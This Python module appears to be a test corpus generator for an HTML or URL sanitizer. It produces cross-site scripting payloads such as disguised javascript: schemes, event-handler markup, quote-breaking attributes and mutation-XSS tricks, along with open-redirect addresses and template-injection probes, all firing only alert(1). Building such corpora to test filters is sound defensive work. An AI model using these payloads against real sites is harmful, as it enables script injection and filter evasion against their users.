"""Families of hostile texts, put together from their parts: schemes, tags, handlers, disguises.

They are of our own making, after the ways in which browsers are known to be led astray:
letters as entities, white space and control characters within a scheme, tags cut short,
attributes without quotes, markup that another parser would close.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALL = "alert(1)"
SCHEMES = (
    "javascript",
    "vbscript",
    "data",
    "feed",
    "blob",
    "intent",
    "file",
    "livescript",
    "mocha",
    "view-source",
)
HANDLERS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "onpointerenter", "ontoggle")
TAGS = ("script", "img", "svg", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "body")
MORE_TAGS = (
    "video",
    "audio",
    "details",
    "math",
    "template",
    "noscript",
    "textarea",
    "title",
    "xmp",
    "plaintext",
)


def disguises(scheme: str) -> Iterator[str]:
    """A scheme as it might be hidden from a filter and still be seen by a browser."""
    yield scheme
    yield scheme.upper()
    yield "".join(letter.upper() if number % 2 else letter for number, letter in enumerate(scheme))
    yield "".join(f"&#{ord(letter)};" for letter in scheme)
    yield "".join(f"&#x{ord(letter):X};" for letter in scheme)
    yield "".join(f"&#{ord(letter):07};" for letter in scheme)
    yield f"{scheme[:4]}&Tab;{scheme[4:]}"
    yield f"{scheme[:4]}&NewLine;{scheme[4:]}"
    yield f"{scheme[:4]}&#13;{scheme[4:]}"
    yield f"{scheme[:4]}\t{scheme[4:]}"
    yield f"{scheme[:4]}%09{scheme[4:]}"
    yield f"{scheme[:2]}\\{scheme[2:]}"
    yield f"&#1;{scheme}"
    yield f"&#32;{scheme}"
    yield f"\u00a0{scheme}"
    yield f"\ufeff{scheme}"
    yield f"{scheme[:4]}\u200b{scheme[4:]}"
    yield f"{scheme[:3]}\u00ad{scheme[3:]}"
    yield f"%{ord(scheme[0]):02x}{scheme[1:]}"


def addresses() -> Iterator[str]:
    """Addresses that run, leave the site without a scheme, or pretend to be what they are not."""
    for scheme in SCHEMES:
        for written in disguises(scheme):
            yield f"{written}:{CALL}"
            yield f"{written}&colon;{CALL}"
    yield from (
        "//otro.example/x",
        "\\\\otro.example\\x",
        "/\\otro.example",
        "/%09/otro.example",
        "///otro.example",
    )
    yield from (
        'https://javascript:alert(1)@otro.example"onload=alert(1)',
        "http:\\\\otro.example",
        "https:otro.example",
    )
    yield from (
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "javascript://%0aalert(1)",
        "javascript://https://example.org/%0aalert(1)",
        "jar:javascript:alert(1)",
        "java\nscript:alert(1)",
        "sitegen:0",
        "SITEGEN:1",
    )


def markup() -> Iterator[str]:
    """HTML that runs if anyone takes it for HTML."""
    for tag in TAGS + MORE_TAGS:
        yield f"<{tag}>{CALL}</{tag}>"
        yield f"<{tag.upper()} SRC=javascript:{CALL}>"
        yield f"</{tag}><script>{CALL}</script>"
        yield f"<{tag}/x src=x href=javascript:{CALL}//"
    for tag, handler in itertools.product(
        ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus"), HANDLERS
    ):
        yield f"<{tag} {handler}={CALL}>"
        yield f"<{tag}/{handler}='{CALL}'//"
        yield f'<{tag}\n{handler}\t=\n"{CALL}"'
        yield f'"><{tag} {handler}={CALL}>'
        yield f"'><{tag} {handler}={CALL}>"
    yield from (
        f"<!--><img src=x onerror={CALL}>-->",
        f"<![CDATA[<script>{CALL}</script>]]>",
        f"<?xml version='1.0'?><script>{CALL}</script>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<svg><style><img src=x onerror={CALL}></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"&#60;script&#62;{CALL}&#60;/script&#62;",
        "<style>@import '//otro.example';</style>",
        "<a href='java&#x73;cript:alert(1)'>x</a>",
        "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}",
        "</p></div></main></body></html><script>alert(1)</script>",
        "\u2028<script>alert(1)</script>\u2029",
        "＜script＞alert(1)＜/script＞",
        "<ſcript>alert(1)</ſcript>",
    )


def quotes() -> Iterator[str]:
    """What might end an attribute and begin another."""
    for end, handler in itertools.product(('"', "'", "`", "&quot;", "&#34;", '\\"', ' " '), HANDLERS):
        yield f"x{end} {handler}={end}{CALL}"
        yield f"x{end}><img src=x {handler}={CALL}>"


def everything() -> list[str]:
    """Every payload, each once."""
    return list(dict.fromkeys((*addresses(), *markup(), *quotes())))
